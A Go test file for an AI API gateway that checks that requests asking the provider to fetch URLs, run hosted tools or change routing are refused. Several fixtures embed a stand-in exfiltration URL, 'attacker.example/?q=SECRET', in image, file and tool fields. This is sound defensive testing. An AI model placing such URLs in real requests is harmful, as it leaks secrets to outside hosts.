package gateway

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"errors"
	"os"
	"strings"
	"testing"

	"pawl/agent/wire"
)

func to(k wire.Provider, model string) target {
	return target{provider: &provider{Provider: Provider{Kind: k}}, Route: wire.Route{Form: k.Form(""), Model: model}}
}

func TestInspect(t *testing.T) {
	for _, c := range []struct {
		name           string
		kind           wire.Provider
		model, body    string
		want           string // the model, "" for a refusal
		out, n         int64
		hidden, hosted bool
	}{
		{name: "plain", body: `{"model":"a","max_tokens":5}`, want: "a", out: 5, n: 1},
		{name: "largest bound", body: `{"model":"a","max_tokens":5,"max_completion_tokens":7,"n":3}`, want: "a", out: 7,
			n: 3},
		{name: "no bound", body: `{"model":"a","max_tokens":null}`, want: "a", n: 1},
		{name: "gemini", kind: wire.Google, model: "g",
			body: `{"model":"b","generationConfig":{"maxOutputTokens":9,"candidateCount":2}}`, want: "g", out: 9, n: 2},
		{name: "gemini, other spelling", kind: wire.Google, model: "g",
			body: `{"generation_config":{"max_output_tokens":9}}`, want: "g", out: 9, n: 1},
		{name: "loose reader", body: `{"MODEL":"a","Max_Tokens":5}`, want: "a", out: 5, n: 1},
		{name: "same key", body: `{"model":"cheap","model":"dear"}`},
		{name: "same key but for case", body: `{"model":"cheap","Model":"dear"}`},
		{name: "same key but for escapes", body: `{"model":"cheap","mod\u0065l":"dear"}`},
		{name: "two spellings", kind: wire.Google, model: "g",
			body: `{"generationConfig":{},"generation_config":{"max_output_tokens":9}}`},
		{name: "same key inside", kind: wire.Google, model: "g",
			body: `{"generationConfig":{"maxOutputTokens":1,"maxOutputTokens":9}}`},
		{name: "no model", body: `{"messages":[]}`},
		{name: "no object", body: `["model"]`},
		{name: "no JSON", body: `{"model":"a"`},
		{name: "more behind it", body: `{"model":"a"}{}`},
		{name: "nothing", body: ``},
		{name: "negative", body: `{"model":"a","max_tokens":-5}`},
		{name: "fraction", body: `{"model":"a","max_tokens":1.5}`},
		{name: "huge", body: `{"model":"a","max_tokens":1e300}`},
		{name: "number as text", body: `{"model":"a","max_tokens":"5"}`},
		{name: "background", body: `{"model":"a","background":true}`, hidden: true},
		{name: "no background", body: `{"model":"a","background":false,"previous_response_id":null,"mcp_servers":[]}`,
			want: "a", n: 1},
		{name: "stored conversation", body: `{"model":"a","previous_response_id":"r"}`, hidden: true},
		{name: "stored content", kind: wire.Google, model: "g", body: `{"cachedContent":"c"}`, hidden: true},
		{name: "servers", kind: wire.Anthropic, body: `{"model":"a","mcp_servers":[{"url":"http://x"}]}`, hidden: true,
			hosted: true},
		{name: "own tools", body: `{"model":"a","input":[],"tools":[{"type":"function","name":"x"},{"type":"custom","name":"apply_patch"},{"type":"namespace","tools":[{"type":"function"}]},{"type":"web_search","external_web_access":false}]}`, want: "a", n: 1},
		{name: "own tools without a type", kind: wire.Anthropic,
			body: `{"model":"a","tools":[{"name":"Bash","input_schema":{"type":"object"}},{"type":"bash_20250124","name":"bash"}]}`, want: "a", n: 1},
		{name: "search", body: `{"model":"a","tools":[{"type":"web_search"}]}`, hidden: true, hosted: true},
		{name: "search outside", body: `{"model":"a","tools":[{"type":"web_search","external_web_access":true}]}`,
			hidden: true, hosted: true},
		{name: "server as a tool", body: `{"model":"a","tools":[{"type":"mcp","server_url":"http://x","external_web_access":false}]}`, hidden: true, hosted: true},
		{name: "nested", body: `{"model":"a","tools":[{"type":"namespace","tools":[{"type":"mcp"}]}]}`, hidden: true,
			hosted: true},
		{name: "deep", body: `{"model":"a","input":[],"tools":` + strings.Repeat(`[{"tools":`, 9) + `[]` +
			strings.Repeat(`}]`, 9) + `}`},
		{name: "two types", body: `{"model":"a","tools":[{"type":"function","Type":"mcp"}]}`},
		{name: "anthropic search", kind: wire.Anthropic,
			body: `{"model":"a","tools":[{"type":"web_search_20250305","name":"web_search"}]}`, hidden: true,
			hosted: true},
		{name: "gemini tools", kind: wire.Google, model: "g", body: `{"tools":[{"functionDeclarations":[]}]}`,
			want: "g", n: 1},
		{name: "gemini search", kind: wire.Google, model: "g",
			body: `{"tools":[{"functionDeclarations":[]},{"google_search":{}}]}`, hidden: true, hosted: true},
		{name: "tools among the items", body: `{"model":"m","input":[{"type":"additional_tools","tools":[{"type":"namespace","name":"f","tools":[{"type":"custom","name":"exec"}]}]},{"type":"message"}]}`, want: "m", n: 1},
		{name: "a hosted tool among the items",
			body: `{"model":"m","input":[{"type":"additional_tools","tools":[{"type":"web_search"}]}]}`, hidden: true,
			hosted: true},
		{name: "a hosted tool deep among the items",
			body: `{"model":"m","input":["x",{"type":"other","tools":[{"type":"namespace","tools":[{"type":"code_interpreter"}]}]}]}`, hidden: true, hosted: true},
		{name: "an item of two minds", body: `{"model":"m","input":[{"type":"message","tools":[],"Tools":[{"type":"web_search"}]}]}`},
		{name: "gemini URLs beside functions", kind: wire.Google, model: "g",
			body: `{"tools":[{"functionDeclarations":[],"urlContext":{}}]}`, hidden: true, hosted: true},
	} {
		k := c.kind
		if k == "" {
			k = wire.OpenAI
		}
		tt := to(k, c.model)
		if strings.Contains(c.body, `"input":`) {
			tt.Form = wire.Responses
		}
		f, err := inspect(tt, []byte(c.body))
		if (err == nil) != (c.want != "") || errors.Is(err, errHidden) != c.hidden {
			t.Errorf("%s: %v", c.name, err)
			continue
		}
		if err == nil && (f.model != c.want || f.out != c.out || f.answers != c.n) {
			t.Errorf("%s: %+v", c.name, f)
		}
		tt.Hosted = true
		if _, err := inspect(tt, []byte(c.body)); c.hosted && err != nil {
			t.Errorf("%s: refused although it is granted: %v", c.name, err)
		}
	}
}

// TestNoProviderFetchesOrStores: what a request would have its provider fetch, search, look up or charge otherwise is
// refused by its name, in every form, also where tokens are only counted. What is granted (Hosted) passes.
func TestNoProviderFetchesOrStores(t *testing.T) {
	chat := func(part string) string { return `{"model":"a","messages":[{"role":"user","content":[` + part + `]}]}` }
	responses := func(item string) string { return `{"model":"a","input":[` + item + `]}` }
	messages := func(block string) string {
		return `{"model":"a","messages":[{"role":"user","content":[` + block + `]}]}`
	}
	gemini := func(part string) string { return `{"contents":[{"role":"user","parts":[` + part + `]}]}` }
	const at = `"https://attacker.example/?q=SECRET"`
	for _, c := range []struct {
		form   wire.Form
		body   string
		named  string
		hosted bool
	}{
		{wire.Chat, chat(`{"type":"image_url","image_url":{"url":` + at + `}}`), "url", true},
		{wire.Chat, chat(`{"type":"image_url","image_url":` + at + `}`), "imageurl", true},
		{wire.Chat, chat(`{"type":"text","text":"x"},{"type":"file","file":{"file_data":` + at + `}}`), "filedata", true},
		{wire.Chat, chat(`{"type":"file","file":{"file_id":"file-1"}}`), "fileid", true},
		{wire.Chat, chat(`{"type":"image_url","image_url":[` + at + `]}`), "imageurl", true},
		{wire.Chat, chat(`{"type":"text","text":"x","link":{"to":[` + at + `]}}`), "link", true},
		{wire.Responses, responses(`{"role":"user","content":[{"fileData":{"fileUri":` + at + `}}]}`), "fileuri", true},
		{wire.Responses, responses(`{"role":"user","attachments":[{"at":` + at + `}],"content":"x"}`), "attachments", true},
		{wire.Messages, messages(`{"type":"image","source":` + at + `}`), "source", true},
		{wire.Messages, messages(`{"type":"image","source":{"type":"base64","uri":` + at + `}}`), "uri", true},
		{wire.Gemini, gemini(`{"inlineData":{"mimeType":"image/png","fileUri":` + at + `}}`), "inlinedata", true},
		{wire.Chat, chat(`{"type":"document_url","document_url":` + at + `}`), "document_url", true},
		{wire.Chat, chat(`{"type":"input_audio","input_audio":{"data":` + at + `}}`), "input_audio", true},
		{wire.Chat, `{"model":"a","web_search_options":{}}`, "websearchoptions", true},
		{wire.Chat, `{"model":"a","plugins":[{"id":"web"}]}`, "plugins", true},
		{wire.Chat, `{"model":"a","search_parameters":{"sources":[{"type":"rss","links":[` + at + `]}]}}`, "searchparameters", true},
		{wire.Chat, `{"model":"a","enable_search":true}`, "enablesearch", true},
		{wire.Chat, `{"model":"x:online"}`, "x:online", true},
		{wire.Chat, `{"model":"perplexity/sonar-pro"}`, "sonar", true},
		{wire.Chat, `{"model":"a","models":["dear"]}`, "models", false},
		{wire.Chat, `{"model":"a","provider":{"order":["dear"]}}`, "provider", false},
		{wire.Chat, `{"model":"a","service_tier":"priority"}`, "servicetier", false},
		{wire.Chat, `{"model":"a","service_tier":"\u0070riority"}`, "servicetier", false},
		{wire.Chat, `{"model":"a","modalities":["text","audio"]}`, "modalities", false},
		{wire.Chat, `{"model":"a","extra_body":{}}`, "extrabody", false},
		{wire.Responses, responses(`{"role":"user","content":[{"type":"input_file","file_url":` + at + `}]}`), "fileurl", true},
		{wire.Responses, responses(`{"role":"user","content":[{"type":"input_image","Image_URL":` + at + `}]}`), "imageurl", true},
		{wire.Responses, responses(`{"type":"function_call_output","call_id":"c","output":[{"type":"input_image","image_url":` + at + `}]}`), "imageurl", true},
		{wire.Responses, responses(`{"type":"item_reference","id":"msg_1"}`), "item_reference", true},
		{wire.Responses, responses(`{"type":"mcp_approval_response","approve":true}`), "mcp_approval_response", true},
		{wire.Chat, `{"model":"a","tools":[{"googleSearch":{}}]}`, "googlesearch", true},
		{wire.Chat, `{"model":"a","tools":[{"type":"functionx_hosted"}]}`, "functionx_hosted", true},
		{wire.Chat, `{"model":"a","tools":[{"type":"function_20250101"}]}`, "function_20250101", true},
		{wire.Chat, `{"model":"a","tools":[{"type":"function","function":{"name":"f"},"server_url":` + at + `}]}`, "serverurl", true},
		{wire.Chat, `{"model":"a","tools":[{"type":"function","function":{"name":"f","web_search":{}}}]}`, "websearch", true},
		{wire.Chat, `{"model":"a","functions":[{"name":"f","web_search":{"enable":true}}]}`, "websearch", true},
		{wire.Responses, `{"model":"a","tools":[{"type":"function","web_search":{"enable":true}}]}`, "websearch", true},
		{wire.Responses, `{"model":"a","tools":[{"type":"namespace","tools":[{"type":"custom","name":"c","server_url":` + at + `}]}]}`, "serverurl", true},
		{wire.Responses, `{"model":"a","tools":[{"type":"computer_use_hosted"}]}`, "computer_use_hosted", true},
		{wire.Messages, `{"model":"a","tools":[{"type":"memory_hosted"}]}`, "memory_hosted", true},
		{wire.Messages, `{"model":"a","tools":[{"type":"bash_2025","name":"b"}]}`, "bash_2025", true},
		{wire.Messages, `{"model":"a","tools":[{"name":"f","input_schema":{},"server_url":` + at + `}]}`, "serverurl", true},
		{wire.Messages, messages(`{"type":"tool_addition","tool":{"type":"tool_definition","definition":{"name":"f","url":` + at + `}}}`), "url", true},
		{wire.Gemini, `{"tools":[{"functionDeclarations":[{"name":"f","server_url":` + at + `}]}]}`, "serverurl", true},
		{wire.Gemini, `{"tools":[{"type":"function"}]}`, `"type"`, true},
		{wire.Responses, `{"model":"a","prompt":{"id":"p"}}`, "prompt", false},
		{wire.Messages, messages(`{"type":"image","source":{"type":"url","url":` + at + `}}`), `"url"`, true},
		{wire.Messages, messages(`{"type":"tool_result","tool_use_id":"t","content":[{"type":"document","source":{"url":` + at + `}}]}`), "url", true},
		{wire.Messages, messages(`{"type":"document","source":{"type":"file","file_id":"f"}}`), `"file"`, true},
		{wire.Messages, messages(`{"type":"container_upload","file_id":"f"}`), "container_upload", true},
		{wire.Messages, messages(`{"type":"tool_addition","tool":{"type":"tool_definition","definition":{"type":"web_fetch_20250910","name":"f"}}}`), "web_fetch", true},
		{wire.Messages, `{"model":"a","container":{"skills":[{"type":"anthropic"}]}}`, "container", true},
		{wire.Messages, `{"model":"a","speed":"fast"}`, "speed", false},
		{wire.Messages, `{"model":"a","context_management":{"edits":[{"type":"compact_20260112"}]}}`, "compact_", false},
		{wire.Messages, `{"model":"a","fallbacks":[{"model":"dear"}]}`, "fallbacks", false},
		{wire.Messages, `{"model":"a","inference_geo":"us"}`, "inferencegeo", false},
		{wire.Gemini, gemini(`{"fileData":{"fileUri":` + at + `}}`), "filedata", true},
		{wire.Gemini, gemini(`{"functionResponse":{"name":"f","response":{"url":` + at + `},"parts":[{"file_data":{"file_uri":` + at + `}}]}}`), "filedata", true},
		{wire.Gemini, `{"systemInstruction":{"parts":[{"fileData":{}}]}}`, "filedata", true},
		{wire.Gemini, `{"generationConfig":{"responseModalities":["TEXT","IMAGE"]}}`, "responsemodalities", false},
		{wire.Gemini, `{"generationConfig":{"routingConfig":{"autoMode":{}}}}`, "routingconfig", false},
		{wire.Gemini, `{"generateContentRequest":` + gemini(`{"fileData":{"fileUri":`+at+`}}`) + `}`, "filedata", true},
	} {
		for _, form := range []wire.Form{c.form, wire.Free} {
			tt := to(c.form.Provider(), "")
			if tt.Form = form; tt.Kind == wire.Google {
				tt.Model = "g"
			}
			if form == wire.Free && tt.Kind == wire.OpenAI {
				continue // it has no such request
			}
			if _, err := inspect(tt, []byte(c.body)); !errors.Is(err, errHidden) || !strings.Contains(err.Error(), c.named) {
				t.Errorf("%s %s: %v", form, c.body, err)
			}
			tt.Hosted = true
			if _, err := inspect(tt, []byte(c.body)); (err == nil) != c.hosted {
				t.Errorf("%s %s, granted: %v", form, c.body, err)
			}
		}
	}
	for body, form := range map[string]wire.Form{
		`{"model":"a","tools":[{"type":"bash_20250124","name":"bash"},{"type":"text_editor_20250728","name":"e","max_characters":9},{"type":"memory_20250818","name":"memory"},{"type":"tool_search_tool_regex_20251119","name":"t"},{"type":"custom","name":"c","cache_control":{"type":"ephemeral"}}]}`: wire.Messages,
		`{"model":"a","tools":[{"type":"custom","name":"c","format":{"type":"grammar"}},{"type":"local_shell"}]}`:                                                        wire.Responses,
		`{"model":"a","tools":[{"type":"function","function":{"name":"f","parameters":{"web_search":{}},"strict":true},"cache_control":{}}],"functions":[{"name":"f"}]}`: wire.Chat,
	} {
		tt := to(form.Provider(), "")
		tt.Form = form
		if _, err := inspect(tt, []byte(body)); err != nil {
			t.Errorf("%s: %v", body, err)
		}
	}
	for form, body := range map[wire.Form]string{
		wire.Chat: chat(`{"type":"image_url","image_url":{"url":"data:image/png;base64,AA"}},{"type":"text","text":` + at + `}`),
		wire.Responses: responses(`{"type":"function_call","name":"fetch","arguments":"{\"url\":\"https://x\"}"},` +
			`{"type":"function_call_output","output":[{"type":"input_image","image_url":"data:image/png;base64,AA"}]},` +
			`{"type":"function_call_output","output":` + at + `},{"type":"shell_call_output","output":[{"stdout":` + at + `}]},` +
			`{"type":"apply_patch_call","operation":{"diff":` + at + `}},{"type":"custom_tool_call","input":` + at + `},` +
			`{"type":"message","content":[{"type":"output_text","text":` + at + `,"annotations":[]}]}`),
		wire.Messages: messages(`{"type":"tool_use","name":"fetch","input":{"url":` + at + `,"type":"x"}},` +
			`{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA"}}`),
		wire.Gemini: gemini(`{"functionCall":{"name":"fetch","args":{"fileUri":` + at + `}}},{"inlineData":{"mimeType":"image/png","data":"AA"}}`),
	} {
		tt := to(form.Provider(), "g")
		tt.Form = form
		if _, err := inspect(tt, []byte(body)); err != nil {
			t.Errorf("%s: %v", body, err)
		}
	}
}

// TestWhatAgentsSendPasses: the shapes of requests that the programs of the catalog made (texts are cut).
func TestWhatAgentsSendPasses(t *testing.T) {
	raw, err := os.ReadFile("testdata/requests.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	agents := map[string]bool{}
	for line := range bytes.Lines(raw) {
		var r struct {
			Agent, Path string
			Body        json.RawMessage
		}
		if err := json.Unmarshal(line, &r); err != nil {
			t.Fatal(err)
		}
		name, rest, _ := strings.Cut(strings.TrimPrefix(r.Path, "/"), "/")
		path, _, _ := strings.Cut(rest, "?")
		tt := target{provider: &provider{Provider: Provider{Kind: wire.Provider(name)}}}
		tt.Route, _ = tt.Kind.Route("POST", "/"+path)
		if _, err := inspect(tt, r.Body); err != nil || tt.Form == "" {
			t.Errorf("%s %s: %v\n%s", r.Agent, r.Path, err, r.Body)
		}
		agents[r.Agent] = true
	}
	if len(agents) < 6 {
		t.Errorf("only %v", agents)
	}
}

func TestTokens(t *testing.T) {
	code := "func main() { fmt.Println(\"hello\") } // 3 bytes a token, at least\n"
	if n := tokens([]byte(code)); n < int64(len(code))/4 || n > int64(len(code)) {
		t.Errorf("code of %d bytes counts %d", len(code), n)
	}
	if n := tokens([]byte("你好，世界")); n < 5 || n > 10 {
		t.Errorf("five runes count %d", n)
	}
	picture := base64.StdEncoding.EncodeToString(make([]byte, 3<<20))
	if n := tokens([]byte(`{"data":"` + picture + `"}`)); n > 2*fileTokens {
		t.Errorf("a picture of %d bytes counts %d", len(picture), n)
	}
}

func TestMeter(t *testing.T) {
	const some = "data: {\"candidates\":[{\"content\":{\"parts\":[{\"text\":\"a longer piece of text than one token\"}]}}],\"usageMetadata\":{\"promptTokenCount\":50,\"candidatesTokenCount\":1}}\n\n"
	const last = "data: {\"candidates\":[{\"finishReason\":\"STOP\"}],\"usageMetadata\":{\"promptTokenCount\":50,\"cachedContentTokenCount\":20,\"candidatesTokenCount\":4,\"thoughtsTokenCount\":3}}\n\n"
	const piece = "data: {\"type\":\"response.output_text.delta\",\"delta\":\"x\"}\n\n"
	big := strings.Repeat("text", 100_000)
	big = strings.ReplaceAll(big, "texttext", "text tex")
	for _, c := range []struct {
		name, raw       string
		form            wire.Form
		in, cached, out int64
		ended, failed   bool
	}{
		{name: "figures so far are not those of the whole", form: wire.Gemini, raw: some, in: 50, out: 11},
		{name: "figures of the whole", form: wire.Gemini, raw: some + last, in: 50, cached: 20, out: 7, ended: true},
		{name: "cache", form: wire.Messages, in: 115, cached: 100, out: 7, ended: true,
			raw: "data: {\"type\":\"message_start\",\"message\":{\"usage\":{\"input_tokens\":5,\"cache_read_input_tokens\":100,\"cache_creation_input_tokens\":10,\"output_tokens\":1}}}\n\n" +
				"data: {\"type\":\"message_delta\",\"usage\":{\"output_tokens\":7}}\n\ndata: {\"type\":\"message_stop\"}\n\n"},
		{name: "error in the stream", form: wire.Messages, raw: "data: {\"type\":\"error\",\"error\":{}}\n\n", in: 9,
			out: 12, ended: true, failed: true},
		{name: "failed response", form: wire.Responses,
			raw: "data: {\"type\":\"response.failed\",\"response\":{\"usage\":null}}\n\n", in: 9, out: 20, ended: true,
			failed: true},
		{name: "error in the chat", form: wire.Chat, raw: "data: {\"error\":{\"message\":\"x\"}}\r\n\r\n", in: 9,
			out: 9, failed: true},
		{name: "event in two lines", form: wire.Chat,
			raw: "data: {\"usage\":\ndata: {\"prompt_tokens\":3,\"completion_tokens\":2}}\n\n", in: 3, out: 2},
		{name: "no figures", form: wire.Chat,
			raw: "data: {\"choices\":[{\"delta\":{\"tool_calls\":[{\"function\":{\"name\":\"abc\",\"arguments\":\"{{{{{{\"}}]}}]}\n\ndata: [DONE]", in: 9, out: 3, ended: true},
		{name: "parts, a sound and a call of the old kind", form: wire.Chat, raw: "data: {\"choices\":[{\"delta\":{\"content\":[{\"type\":\"text\",\"text\":\"twelve bytes\"}],\"audio\":{\"data\":\"abc\"},\"function_call\":{\"arguments\":\"def\"}}}]}\n\ndata: [DONE]\n\n", in: 9, out: 6, ended: true},
		{name: "nothing known", form: wire.Chat, raw: "data: {\"message\":\"" + strings.Repeat("word ", 1000) + "\"}\n\ndata: [DONE]\n\n",
			in: 9, out: 1670, ended: true},
		{name: "no JSON", form: wire.Chat, raw: "<html>" + strings.Repeat("word ", 1000), in: 9, out: 1669},
		{name: "zeros first", form: wire.Chat, raw: "data: {\"choices\":[],\"usage\":{\"prompt_tokens\":0,\"completion_tokens\":0}}\n\n" +
			"data: {\"choices\":[{\"delta\":{\"content\":\"twelve bytes\"}}]}\n\ndata: [DONE]\n\n", in: 9, out: 4, ended: true},
		{name: "zeros last", form: wire.Chat, raw: "data: {\"choices\":[{\"delta\":{\"content\":\"twelve bytes\"}}]}\n\n" +
			"data: {\"choices\":[],\"usage\":{\"prompt_tokens\":0,\"completion_tokens\":0}}\n\ndata: [DONE]\n\n", in: 9, out: 4, ended: true},
		{name: "an event that is no JSON", form: wire.Chat, raw: "data: {\"choices\":[{\"delta\":{\"content\":\"twelve bytes\"}}]}\n\n" +
			"data: {" + strings.Repeat("word ", 600) + "\n\ndata: [DONE]\n\n", in: 9, out: 1004, ended: true},
		{name: "figures, and more behind them", form: wire.Chat, raw: "data: {\"choices\":[],\"usage\":{\"prompt_tokens\":3,\"completion_tokens\":1}}\n\n" +
			"data: {\"choices\":[{\"delta\":{\"content\":\"twelve bytes\"}}]}\n\ndata: [DONE]\n\n", in: 3, out: 4, ended: true},
		{name: "a whole answer without figures", form: wire.Chat, raw: "{\"choices\":[{\"message\":{\"role\":\"assistant\",\"content\":\"twelve bytes\"},\"finish_reason\":\"stop\"}]}",
			in: 9, out: 4, ended: true},
		{name: "a small piece hides an item", form: wire.Responses, in: 9, out: 133_334, ended: true,
			raw: "data: {\"type\":\"response.created\",\"response\":{\"instructions\":\"" + big + "\",\"tools\":[\"" + big + "\"]}}\n\n" + piece + "data: {\"type\":\"response.output_item.done\",\"item\":{\"type\":\"message\",\"content\":[{\"type\":\"output_text\",\"text\":\"" + big + "\"}]}}\n\ndata: {\"type\":\"response.completed\",\"response\":{}}\n\n"},
		{name: "a small piece hides many items", form: wire.Responses, in: 9, out: 8000,
			raw: piece + strings.Repeat("data: {\"type\":\"response.output_item.done\",\"item\":{\"content\":[{\"text\":\"twentyfour bytes of text\"}]}}\n\n", 1000)},
		{name: "a small piece hides the whole", form: wire.Responses, in: 9, out: 133_334, ended: true,
			raw: piece + "data: {\"type\":\"response.completed\",\"response\":{\"output\":[{\"content\":[{\"text\":\"" + big + "\"}]}]}}\n\n"},
		{name: "the same twice counts once", form: wire.Responses, in: 9, out: 133_334, ended: true,
			raw: "data: {\"type\":\"response.output_text.delta\",\"delta\":\"" + big + "\"}\n\ndata: {\"type\":\"response.completed\",\"response\":{\"output\":[{\"content\":[{\"text\":\"" + big + "\"}]}]}}\n\n"},
		{name: "another member of a choice", form: wire.Chat, in: 9, out: 8000,
			raw: "data: {\"choices\":[{\"delta\":{\"content\":\"x\"}}]}\n\n" + strings.Repeat("data: {\"choices\":[{\"text\":\"twentyfour bytes of text\"}]}\n\n", 1000)},
		{name: "beside the choices", form: wire.Chat, in: 9, out: 133_334,
			raw: "data: {\"choices\":[{\"delta\":{\"content\":\"x\"}}],\"more\":{\"a\":\"" + big + "\"}}\n\n"},
		{name: "in the name of a member", form: wire.Chat, in: 9, out: 133_334,
			raw: "data: {\"choices\":[{\"delta\":{\"content\":\"x\",\"" + big + "\":1}}]}\n\n"},
		{name: "in the message that begins", form: wire.Messages, in: 9, out: 133_334,
			raw: "data: {\"type\":\"message_start\",\"message\":{\"content\":[{\"text\":\"" + big + "\"}]}}\n\ndata: {\"type\":\"content_block_delta\",\"delta\":{\"text\":\"x\"}}\n\n"},
		{name: "beside the parts", form: wire.Gemini, in: 9, out: 133_334,
			raw: "data: {\"candidates\":[{\"content\":{\"parts\":[{\"text\":\"x\"}]},\"more\":\"" + big + "\"}]}\n\n"},
		{name: "line too long to be read", form: wire.Chat, raw: "data: " + strings.Repeat("{", 2*maxEvent) +
			"\n\ndata: [DONE]\n\n", in: 9, out: 2 * maxEvent / 3, ended: true},
	} {
		for _, size := range []int{1 << 20, 1} {
			if size == 1 && len(c.raw) > maxEvent {
				continue
			}
			m := meter{form: c.form}
			for raw := []byte(c.raw); len(raw) > 0; raw = raw[min(size, len(raw)):] {
				m.feed(raw[:min(size, len(raw))])
			}
			m.end()
			u := m.cost(9)
			if u.InTokens != c.in || u.CachedTokens != c.cached || u.OutTokens < c.out || u.OutTokens > c.out+
				c.out/50+3 || m.ended != c.ended || m.failed != c.failed {
				t.Errorf("%s, in pieces of %d: %+v, ended %t, failed %t", c.name, size, u, m.ended, m.failed)
			}
		}
	}
}

// FuzzMeter wants no panic and figures within bounds, whatever an endpoint sends and however it is cut.
func FuzzMeter(f *testing.F) {
	f.Add("chat", []byte("data: {\"choices\":[{\"delta\":{\"content\":\"x\"}}],\"usage\":{\"prompt_tokens\":-5}}\n\ndata: [DONE]\n\n"), 7)
	f.Add("responses", []byte("event: x\r\ndata: {\"type\":\"response.completed\",\"response\":{\"usage\":{\"input_tokens\":1e99}}}\r\n\r\n"), 3)
	f.Add("messages", []byte("data: {\"type\":\"message_start\",\"message\":{\"usage\":{\"input_tokens\":9223372036854775807,\"cache_read_input_tokens\":9}}}\n\n"), 1)
	f.Add("gemini", []byte(`[{"usageMetadata":{"promptTokenCount":3}},null,5]`), 2)
	f.Fuzz(func(t *testing.T, name string, raw []byte, at int) {
		m := meter{form: wire.Form(name)}
		if at = max(at, 0); at > len(raw) {
			at = len(raw)
		}
		m.feed(raw[:at])
		m.feed(raw[at:])
		m.end()
		whole := meter{form: wire.Form(name)}
		whole.feed(raw)
		whole.end()
		got, want := m.cost(10), whole.cost(10)
		if got != want {
			t.Errorf("cut at %d: %+v, whole: %+v", at, got, want)
		}
		if got.InTokens <= 0 || got.OutTokens < 0 || got.CachedTokens > got.InTokens || got.InTokens > maxCount {
			t.Errorf("%+v", got)
		}
	})
}

// FuzzInspect wants that a request that passes says the same to a loose reader.
func FuzzInspect(f *testing.F) {
	f.Add(`{"model":"a","max_tokens":5,"tools":[{"type":"function"}]}`)
	f.Add(`{"Model":"a","n":2}`)
	f.Fuzz(func(t *testing.T, body string) {
		facts, err := inspect(to(wire.OpenAI, ""), []byte(body))
		if err != nil {
			return
		}
		var loose struct {
			Model string `json:"model"`
		}
		if json.Unmarshal([]byte(body), &loose) != nil || loose.Model != facts.model &&
			!strings.Contains(strings.ToLower(body), "_") {
			t.Errorf("%q: %q and %q", body, loose.Model, facts.model)
		}
	})
}
